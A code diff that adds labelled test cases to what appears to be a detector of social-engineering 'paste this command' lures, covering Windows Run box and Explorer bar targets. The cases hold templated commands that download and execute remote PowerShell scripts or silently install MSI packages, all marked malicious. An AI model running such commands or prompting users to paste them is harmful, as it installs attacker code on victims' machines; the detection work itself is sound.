@@ -583,6 +583,18 @@ def lures() -> list[dict[str, str]]:
         page = UNRELATED_PAGES[(n + 3) % len(UNRELATED_PAGES)]
         out.append(case(f"dv-lure-off-topic-ps-{n}", f"irm https://{host}/install.ps1 | iex",
                         "malicious", LURE, "windows", page, "terminal"))  # fmt: skip
+    # the same installers from a compromised page into the Run box or Explorer's address bar
+    for n, (_brand, site, _path, host, product) in enumerate(WIN_VENDORS, start=1):
+        page = UNRELATED_PAGES[(n + 5) % len(UNRELATED_PAGES)]
+        out += [
+            case(f"dv-lure-run-box-{n}", f"powershell -c \"irm https://{host}/install.ps1 | iex\"",
+                 "malicious", LURE, "windows", page, "run_dialog"),
+            case(f"dv-lure-explorer-bar-{n}", f"msiexec /i https://{host}/{product}-x64.msi /qn",
+                 "malicious", LURE, "windows", page, "explorer_bar"),
+            # even from the vendor's own page: nothing legitimate asks for a command there
+            case(f"dv-lure-run-box-own-{n}", f"irm https://{host}/install.ps1 | iex",
+                 "malicious", LURE, "windows", f"https://{site}/install", "run_dialog"),
+        ]  # fmt: skip
     # ...but from a developer's page that does not name the product (a question on something
     # else, a homelab post, a forum thread), a warning and never a block
     dev_pages = [
